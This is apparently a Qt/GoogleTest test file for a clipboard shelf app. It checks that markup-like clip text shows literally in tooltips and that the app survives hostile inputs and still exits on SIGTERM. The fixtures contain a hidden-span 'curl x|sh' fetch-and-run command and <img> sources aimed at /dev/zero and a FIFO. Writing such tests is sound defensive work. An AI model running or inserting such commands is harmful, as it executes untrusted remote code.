// Clip text that looks like markup, hovered on the shelf on a real X server: it is shown as the
// literal text, and neither an <img> of /dev/zero nor of a FIFO can take the program down.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <QAbstractItemView>
#include <QApplication>
#include <QHelpEvent>
#include <QElapsedTimer>
#include <QLabel>
#include <QPointer>
#include <QTextDocument>
#include <QToolTip>

#include "HarbelleProcess.h"
#include "ScreenReader.h"
#include "history/HistoryStore.h"
#include "shelf/ClipListModel.h"
#include "shelf/ClipPreviewView.h"
#include "shelf/MainShelfView.h"
#include "support/InMemoryDefaults.h"
#include "support/ManualClock.h"
#include "support/ClipBuilder.h"

namespace harbelle::testing {
namespace {

struct HostileTexts {
    QTemporaryDir dir;
    QString fifo = dir.filePath(QStringLiteral("never-written.fifo"));
    QStringList texts;
    HostileTexts() {
        ::mkfifo(fifo.toLocal8Bit().constData(), 0600);
        texts = {QStringLiteral("<img src=\"/dev/zero\"> notes"), QStringLiteral("<img src=\"%1\">").arg(fifo),
                 QStringLiteral("Invoice total: <span style=\"font-size:1px\">; curl x|sh</span><b>42 EUR</b>")};
    }
};

QString shownText(const QString& toolTip) {
    QTextDocument document;
    document.setHtml(toolTip);
    return document.toPlainText();
}

// The tooltip window Qt shows, while one is up.
QLabel* shownToolTip() {
    for (QWidget* widget : QApplication::topLevelWidgets())
        if (widget->inherits("QTipLabel") && widget->isVisible()) return qobject_cast<QLabel*>(widget);
    return nullptr;
}

struct PaintSeen : QObject {
    bool painted = false;
    bool eventFilter(QObject*, QEvent* event) override {
        painted |= event->type() == QEvent::Paint;
        return false;
    }
};

QString hoverAndReadToolTip(QWidget* widget, QPoint at) {
    // A tip can close before it is painted (the real pointer rests elsewhere, a busy server
    // is late): then the hover is made again, as a user would.
    QString result = QStringLiteral("(no tooltip)");
    for (int attempt = 0; attempt < 3; ++attempt) {
        QToolTip::hideText();
        (void)QTest::qWaitFor([] { return shownToolTip() == nullptr; }, 3000);
        QHelpEvent event(QEvent::ToolTip, at, widget->mapToGlobal(at));
        QApplication::sendEvent(widget, &event);
        QPointer<QLabel> label;
        if (!QTest::qWaitFor([&] { return (label = shownToolTip()) != nullptr; }, 3000)) continue;
        // Painted on the server, as the user sees it.
        PaintSeen paint;
        label->installEventFilter(&paint);
        label->update();
        const bool painted = QTest::qWaitFor([&] { return paint.painted || !label || !label->isVisible(); }, 3000) &&
                             paint.painted;
        if (label) label->removeEventFilter(&paint);
        if (!painted || !label) {
            result = QStringLiteral("(tooltip not painted)");
            continue;
        }
        return label->textFormat() == Qt::PlainText ? label->text() : shownText(label->text());
    }
    return result;
}

TEST(ShelfToolTipX11, CardAndImageToolTipsShowClipTextLiterally) {
    HostileTexts hostile;
    InMemoryDefaults defaults;
    ManualClock clock;
    HistoryStoreOptions options;
    options.demoMode = true;
    options.bundleIdentifier = "com.harbelleapp.Harbelle";
    HistoryStore store(defaults, clock, options);
    for (const QString& text : hostile.texts) store.addTextClip(text.toStdString());
    MainShelfView view(store);
    view.resize(1200, 405);
    view.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&view));

    QAbstractItemView* cards = view.findChild<QAbstractItemView*>();
    ASSERT_TRUE(cards);
    auto* model = cards->model();
    for (int row = 0; row < 3; ++row) {
        const QModelIndex index = model->index(row, 0);
        const std::string title = model->data(index, ClipListModel::TitleRole).toString().toStdString();
        cards->scrollTo(index);
        const QString shown = hoverAndReadToolTip(cards->viewport(), cards->visualRect(index).center());
        EXPECT_EQ(shown.toStdString(), title);
    }

    ClipItem image = ClipBuilder("", ClipKind::image);
    ClipPreviewView preview;
    preview.resize(600, 400);
    preview.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&preview));
    for (const QString& text : hostile.texts) {
        image.searchableText = text.toStdString();
        preview.setClip(image);
        QWidget* canvas = nullptr;
        for (auto* child : preview.findChildren<QWidget*>())
            if (!child->toolTip().isEmpty() && child->isVisible()) canvas = child;
        ASSERT_TRUE(canvas);
        EXPECT_EQ(hoverAndReadToolTip(canvas, canvas->rect().center()), text);
    }
    QToolTip::hideText();
}

TEST(ShelfToolTipX11, TheProgramSurvivesHoveringThemAndStillAnswersSigterm) {
    HostileTexts hostile;
    // The shelf stays while the pointer rests, however long a loaded machine takes.
    HarbelleProcess harbelle(R"({"hasLaunchedPemberlow": true, "pasteDirectly": false, "autoHideEnabled": false})");
    ASSERT_TRUE(harbelle.waitUntilRunning());
    for (const QString& text : hostile.texts)
        ASSERT_TRUE(harbelle.copyAndWaitUntilSaved(text, HarbelleProcess::Saved::asNewest));

    ASSERT_TRUE(pressKeys("shift+super+v"));
    ASSERT_TRUE(QTest::qWaitFor([] { return activeWindowName() == QStringLiteral("Harbelle"); }, 5000));
    QProcess geometry;
    geometry.start(QStringLiteral("xdotool"), {QStringLiteral("getactivewindow"), QStringLiteral("getwindowgeometry"),
                                               QStringLiteral("--shell")});
    ASSERT_TRUE(geometry.waitForFinished(5000));
    int x = 0, y = 0, width = 0, height = 0;
    for (const QByteArray& line : geometry.readAllStandardOutput().split('\n')) {
        const auto value = line.mid(line.indexOf('=') + 1).toInt();
        if (line.startsWith("X=")) x = value;
        if (line.startsWith("Y=")) y = value;
        if (line.startsWith("WIDTH=")) width = value;
        if (line.startsWith("HEIGHT=")) height = value;
    }
    ASSERT_GT(width, 0);

    // Rest the pointer on each card until its tooltip shows, and away until it is gone. A pointer
    // that came to rest before the shelf had the focus shows none: it moves a little, as a hand does.
    const qint64 pid = harbelle.process().processId();
    const auto moveTo = [](int px, int py) {
        return runQuietly(QStringLiteral("xdotool"),
                          {QStringLiteral("mousemove"), QStringLiteral("--sync"), QString::number(px), QString::number(py)});
    };
    for (int card = 0; card < int(hostile.texts.size()) && harbelle.process().state() == QProcess::Running; ++card) {
        SCOPED_TRACE(card);
        const QPoint at(x + 136 + 244 * card, y + height * 3 / 5);
        ASSERT_TRUE(moveTo(at.x(), at.y()));
        QElapsedTimer resting;
        resting.start();
        int nudges = 0;
        EXPECT_TRUE(QTest::qWaitFor(
            [&] {
                if (popupShown(pid, 1)) return true;
                if (resting.elapsed() > 2000) {
                    moveTo(at.x() + (++nudges % 2) * 4, at.y());
                    resting.restart();
                }
                return false;
            },
            15000))
            << "no tooltip shows" << (shelfWindowVisible() ? "" : "; the shelf is gone");
        ASSERT_TRUE(moveTo(1270, 10));
        EXPECT_TRUE(QTest::qWaitFor([&] { return !popupShown(pid, 1); }, 5000)) << "the tooltip stays";
    }
    EXPECT_EQ(harbelle.process().state(), QProcess::Running) << "the program died while a tooltip showed";

    harbelle.process().terminate();
    EXPECT_TRUE(harbelle.process().waitForFinished(2000)) << "no answer to SIGTERM";
    EXPECT_EQ(harbelle.process().exitStatus(), QProcess::NormalExit);
}

}  // namespace
}  // namespace harbelle::testing
